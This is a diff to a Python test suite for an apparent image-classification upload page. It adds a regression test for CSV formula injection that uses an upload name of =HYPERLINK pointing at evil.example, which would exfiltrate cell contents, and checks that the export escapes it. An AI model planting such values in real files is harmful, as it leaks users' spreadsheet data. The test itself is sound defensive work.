@@ -190,6 +190,17 @@ def test_uploads_and_downloads(page_env, media):
     assert "curl -XPOST --data-binary @glasses.jpg -H 'Content-Type: image/jpeg' 'http://localhost:8080/predict'" in code
 
 
+def test_the_csv_download_writes_a_formula_name_as_text(page_env, media):
+    """Issue 29, point 7: an upload named =HYPERLINK(...) went verbatim into the results CSV (a formula)."""
+    import csv as csv_module
+
+    name = '=HYPERLINK("https://evil.example/?"&A1,"x").jpg'
+    at = classify(new_page(), uploads=[(name, (REFERENCE / "glasses.jpg").read_bytes(), "image/jpeg")])
+    buttons = {b.key: b for b in at.get("download_button")}
+    (row,) = csv_module.DictReader(io.StringIO(media(buttons["download_csv"].proto.url).decode()))
+    assert row["source"] == "'" + name and float(row["drawings"]) >= 0  # the scores stay numbers
+
+
 def test_an_animation_shows_its_frames_blurred_with_the_deciding_one_marked(page_env, media):
     page_env.setenv("NSFW_SAFE_THRESHOLD", "0.99999")  # nothing is definitely safe: previews blurred
     frames = [Image.open(ROOT / "data" / "demo" / "photos" / name).convert("RGB").resize((96, 96))
@@ -283,7 +294,7 @@ def test_empty_submit_asks_for_input(page_env):
 
 
 def test_curl_box_uses_the_browser_url_and_api_key(page_env):
-    page_env.setenv("NSFW_API_KEYS", "secret-key")
+    page_env.setenv("NSFW_API_KEYS", "secret-key-0123456789")
     anonymous = AppTest.from_file(str(PAGE), default_timeout=TIMEOUT).run()
     assert not anonymous.code and "needs signing in" in anonymous.warning[0].value  # a keyed API: no public page
     at = signed_in(AppTest.from_file(str(PAGE), default_timeout=TIMEOUT), REVIEWER)
